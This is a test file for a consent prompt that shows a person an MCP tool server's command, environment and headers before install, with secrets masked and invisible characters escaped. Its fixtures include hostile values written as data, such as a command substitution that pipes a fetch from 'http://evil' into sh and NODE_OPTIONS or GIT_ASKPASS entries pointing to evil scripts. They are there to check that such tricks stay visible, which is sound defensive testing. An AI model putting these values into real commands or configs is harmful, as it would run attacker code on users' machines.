/** Tests the question that a person sees before something new runs, or before texts that models read change. */
import { expect, test } from "bun:test"
import { placeholder } from "../../../src/config/externalize-secrets.ts"
import { writtenValues } from "../../../src/config/written-values.ts"
import { confirm } from "../../../src/features/tools/consent.ts"
import {
  changedSettings,
  commandFor,
  commandText,
  hidesSecrets,
  inheritedText,
  questionOn,
} from "../../../src/features/tools/consent-text.ts"
import type { Params } from "../../../src/wire/message.ts"

const NOBODY = { person: undefined, preapproved: { installs: false, edits: false } }

/** Returns the question to a person. */
async function asked(what: string, server: Params): Promise<string> {
  let question = ""
  const person = {
    agrees(message: string) {
      question = message
      return Promise.resolve(true)
    },
  }
  await confirm({ ...NOBODY, person }, ["installs"], questionOn(what, { server }))
  return question
}

test("a person sees the whole command: what looks like a secret may be code [tools:confirm]", async () => {
  const args = ["-c", "token='$(fetch http://evil | sh)' bun", "--auth-module=/tmp/evil.js", "a secret that is known"]
  expect(await asked("Install x", { command: "sh", args })).toBe(
    `Install x?\n\nsh -c "token='$(fetch http://evil | sh)' bun" --auth-module=/tmp/evil.js "a secret that is known"`,
  )
  const long = "x".repeat(100_000)
  expect(await asked("Install x", { command: "sh", args: ["-c", long, "end"] })).toEndWith(`${long} end`)
})

test("only hideable values under secret names are hidden; values that a registry or a file sets are shown [tools:shown]", () => {
  const env = {
    NODE_OPTIONS: "--require /tmp/x.js",
    API_TOKEN: "sekret",
    B_TOKEN: "Bearer ${GITHUB_TOKEN}",
    ODD: "sekret",
    EVIL_TOKEN: "--require=/tmp/evil.js",
  }
  const typed = { API_TOKEN: "sekret", B_TOKEN: env.B_TOKEN, ODD: "sekret", EVIL_TOKEN: "something else" }
  expect(
    commandText({ command: "bun", env, cwd: "/a b", inheritParentEnv: true }, hidesSecrets(typed, new Set(["ODD"]))),
  ).toBe(
    'bun in "/a b" with NODE_OPTIONS="--require /tmp/x.js" API_TOKEN=••• B_TOKEN=•••${GITHUB_TOKEN} ODD=••• EVIL_TOKEN=--require=/tmp/evil.js inheritParentEnv=true',
  )
  const secret = new Set(["NODE_OPTIONS", "A"])
  expect(
    commandText(
      { command: "bun", env: { NODE_OPTIONS: "--require=/home/me/evil.cjs", A: "b" } },
      hidesSecrets({}, secret),
    ),
  ).toBe("bun with NODE_OPTIONS=--require=/home/me/evil.cjs A=b")
  const given = { NODE_OPTIONS: "--require=x", GIT_ASKPASS: "/tmp/evil" }
  expect(commandText({ command: "bun", env: given }, hidesSecrets(given, secret))).toBe(
    "bun with NODE_OPTIONS=--require=x GIT_ASKPASS=/tmp/evil",
  )
  const remote = { url: "https://x/mcp?a=b", headers: { Authorization: "Bearer $MY", "X-Team": "a" } }
  expect(commandText(remote)).toBe('connect to https://x/mcp?a=b with Authorization="Bearer $MY" X-Team=a')
  expect(commandText(remote, hidesSecrets(writtenValues(remote)))).toBe(
    "connect to https://x/mcp?a=b with Authorization=•••$MY X-Team=a",
  )
  const list = { command: "bun", env: ["HOME_OF", "API_KEY=sekret$$HOME", "A=b=c"], envFilter: ["AWS_*"] }
  expect(commandText(list, hidesSecrets(writtenValues(list)))).toBe(
    'bun with HOME_OF API_KEY=••• A=b=c envFilter=["AWS_*"]',
  )
  const workload = { url: "https://x", oauth: { clientId: "me", assertion: "sekret", assertionFile: "file" } }
  expect(commandText(workload, hidesSecrets(writtenValues(workload)))).toContain(
    'oauth={"clientId":"me","assertion":"•••","assertionFile":"file"}',
  )
  const own = { url: "https://x", oauth: { clientId: "me", clientSecret: "sekret" } }
  expect(commandText(own, hidesSecrets(writtenValues(own)))).toBe(
    'connect to https://x with oauth={"clientId":"me","clientSecret":"•••"}',
  )
})

test("no name and no argument can create a new line, be invisible, or reverse the text beside it", async () => {
  const question = await asked("Install x?\n\nnpx good\n\nor\u202e", {
    command: "sh",
    args: ["a\u202eb\u200b", "c\nd", "\u001b[2K\r", "e\u00ad\u2060\u3164\u{e0041}", "f\u00a0g"],
  })
  expect(question).toBe(
    'Install x?\\n\\nnpx good\\n\\nor\\u202e?\n\nsh "a\\u202eb\\u200b" "c\\nd" "\\u001b[2K\\r" "e\\u00ad\\u2060\\u3164\\udb40\\udc41" "f\\u00a0g"',
  )
})

test("blank symbols and characters without an agreed shape are escaped", () => {
  expect(commandText({ command: "sh", args: ["a\u2800b", "\u{1d159}", "\ue000"] })).toBe(
    'sh "a\\u2800b" "\\ud834\\udd59" "\\ue000"',
  )
})

test("no argument, address or name can look like another part of the command", () => {
  const server = { command: "sh", args: ["x", "in", "/safe", "with", "A=1"], cwd: "/evil", env: { "B C": "2" } }
  expect(commandText(server)).toBe('sh x "in" /safe "with" A=1 in /evil with "B C"=2')
  expect(commandText({ url: "https://x with A=1" })).toBe('connect to "https://x with A=1"')
})

test("of a command and a url, the one that is used comes first, and the other is shown too [tools:shown]", () => {
  const both = { command: "/tmp/evil.sh", args: ["a"], url: "https://docs.example.com/mcp" }
  const runs = '/tmp/evil.sh a with url="https://docs.example.com/mcp"'
  expect(commandText(both)).toBe(runs)
  expect(commandText({ ...both, type: "stdio" })).toBe(runs)
  expect(commandText({ ...both, type: "{{transport.type}}" })).toBe(runs)
  expect(commandText({ ...both, type: "http", headers: { A: "b" } })).toBe(
    'connect to https://docs.example.com/mcp with command="/tmp/evil.sh" args=["a"] A=b',
  )
  expect(commandText({ serverUrl: "https://docs.example.com/mcp" })).toBe("connect to https://docs.example.com/mcp")
  expect(commandText({ command: "connect", args: ["to", "https://docs.example.com/mcp"] })).toBe(
    '"connect" to https://docs.example.com/mcp',
  )
})

test("a person is not asked to run a server that has both a command and a url", () => {
  for (const key of ["url", "serverUrl", "httpUrl"])
    for (const [type, used] of [
      [undefined, "command"],
      ["stdio", "command"],
      ["http", "url"],
    ]) {
      const server = { type, command: "sh", [key]: "https://h/" }
      expect(() => questionOn("Install x", { server, config: "{}" })).toThrow(
        `both a command and a url, but svc would use only the ${used}; remove one of them`,
      )
      // It may still be disabled or uninstalled.
      expect(questionOn("Uninstall x", { server }).shown).toContain("https://h/")
    }
})

test("settings that the command does not show are shown before and after the change", () => {
  expect(
    changedSettings(
      { command: "x", tags: ["a"], toolDescriptionOverrides: { t: "old" } },
      { command: "y", tags: ["a"], toolDescriptionOverrides: { t: "new\u200b" }, disabledTools: ["u"] },
    ),
  ).toEqual(['toolDescriptionOverrides: {"t":"old"} -> {"t":"new\\u200b"}', 'disabledTools: ["u"]'])
})

test("if the client cannot ask, each option gives consent only for its own kind of change", async () => {
  const pass = (installs: boolean, edits: boolean, consents: Parameters<typeof confirm>[1]) =>
    confirm({ person: undefined, preapproved: { installs, edits } }, consents, {
      what: "",
      shown: "",
      masked: "",
    }).then(
      () => "passes",
      (error: Error) => error.message.match(/--confirm-.* off/)?.[0],
    )
  expect(await pass(true, false, ["installs"])).toBe("passes")
  expect(await pass(true, false, ["edits"])).toBe("--confirm-edits off")
  expect(await pass(false, true, ["installs", "edits"])).toBe("--confirm-installs off")
  expect(await pass(false, false, ["installs", "edits"])).toBe("--confirm-installs off and --confirm-edits off")
  expect(await pass(true, true, ["installs", "edits"])).toBe("passes")
})

test("in a client, no value counts as typed by a person: the person sees the values that the assistant passed [tools:shown]", () => {
  const server = {
    command: "npx",
    args: ["-y", "x", `--key=${placeholder("key")}`],
    env: { API_TOKEN: "from-assistant", OLD_TOKEN: "from-file", REF_TOKEN: "${SECRET}", ODD: "odd" },
  }
  const proposal = {
    server,
    secrets: { names: new Set(["ODD"]), hidden: { key: "deep" } },
    kept: { OLD_TOKEN: "from-file" },
    given: { API_TOKEN: "from-assistant", ODD: "odd" },
  }
  const question = questionOn("Run", proposal)
  expect(question.shown).toBe(
    "npx -y x --key=deep with API_TOKEN=from-assistant OLD_TOKEN=••• REF_TOKEN=${SECRET} ODD=odd",
  )
  // On a terminal, the person typed the values; values that a registry calls secret are shown nevertheless.
  expect(commandFor("terminal", proposal)).toBe(
    "npx -y x --key=deep with API_TOKEN=••• OLD_TOKEN=••• REF_TOKEN=${SECRET} ODD=odd",
  )
  expect(question.masked).toBe("npx -y x --key=••• with API_TOKEN=••• OLD_TOKEN=••• REF_TOKEN=${SECRET} ODD=•••")
})

test("a question shows what serverDefaults adds to the server that will run [tools:shown]", () => {
  const defaults = {
    env: { NODE_OPTIONS: "--require=/x.cjs", API_TOKEN: "kept", REF_KEY: "a${B}", MODE: "lost" },
    headers: { Authorization: "Bearer ${T}", "X-Team": "a" },
    inheritParentEnv: true,
    envFilter: ["AWS_*"],
    requestTimeout: 5,
  }
  const config = JSON.stringify({ serverDefaults: defaults })
  const stdio = { command: "x", env: { MODE: "own" }, envFilter: ["!AWS_B"] }
  expect(questionOn("Run", { server: stdio, config, lines: ["tags: []"] })).toMatchObject({
    shown:
      'x with MODE=own envFilter=["!AWS_B"]\nserverDefaults adds: NODE_OPTIONS=--require=/x.cjs API_TOKEN=••• REF_KEY=•••${B} inheritParentEnv=true envFilter=["AWS_*","!AWS_B"]\ntags: []',
  })
  expect(inheritedText("client", { url: "https://x", headers: {} }, config)).toBeUndefined()
  expect(inheritedText("client", { url: "https://x" }, config)).toBe("Authorization=•••${T} X-Team=a")
  expect(inheritedText("model", { url: "https://x" }, config)).toBe("Authorization=•••${T} X-Team=•••")
  expect(inheritedText("client", { command: "x" }, "{}")).toBeUndefined()
})

test("if a person declines or a client cannot ask, nothing changes, and the error contains the masked command", async () => {
  const question = questionOn("Run", { server: { command: "x", env: { A_TOKEN: "s" } }, given: { A_TOKEN: "s" } })
  const person = { agrees: () => Promise.resolve(false) }
  const preapproved = { installs: false, edits: false }
  const refusal = (asked: typeof person | undefined) => confirm({ person: asked, preapproved }, ["installs"], question)
  await expect(refusal(person)).rejects.toMatchObject({ fault: "declined", data: { command: "x with A_TOKEN=•••" } })
  await expect(refusal(undefined)).rejects.toMatchObject({
    fault: "confirmation_required",
    data: { command: "x with A_TOKEN=•••" },
  })
})

test("an answer to a model shows no header value, whatever the header's name [tools:shown]", () => {
  const server = { url: "https://x/mcp", headers: { "X-Workspace": "a value", Authorization: "Bearer ${T}" } }
  const { shown, masked } = questionOn("Uninstall x", { server, kept: writtenValues(server) })
  expect(shown).toBe('connect to https://x/mcp with X-Workspace="a value" Authorization=•••${T}')
  expect(masked).toBe("connect to https://x/mcp with X-Workspace=••• Authorization=•••${T}")
})

test("a value that decides what runs is shown although its name looks secret [tools:shown]", () => {
  const env = { GIT_CONFIG_KEY_0: "core.fsmonitor", UV_KEYRING_PROVIDER: "subprocess", SSH_AUTH_SOCK: "/tmp/s" }
  const server = { command: "x", env }
  expect(questionOn("Enable x", { server, kept: writtenValues(server), config: "{}" }).shown).toBe(
    "x with GIT_CONFIG_KEY_0=core.fsmonitor UV_KEYRING_PROVIDER=subprocess SSH_AUTH_SOCK=/tmp/s",
  )
})
